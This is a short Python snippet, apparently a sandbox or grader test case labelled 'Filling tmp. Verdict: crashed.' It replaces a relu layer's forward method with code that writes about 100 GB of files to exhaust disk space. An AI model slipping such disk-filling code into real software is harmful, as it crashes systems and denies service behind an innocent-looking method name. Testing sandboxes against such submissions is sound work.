"""Filling tmp. Verdict: crashed."""

def forward(self, X):
    for number in range(100_000):
        with open("file" + str(number), "wb") as file:
            file.write(bytes(1 << 20))


relu.forward = forward
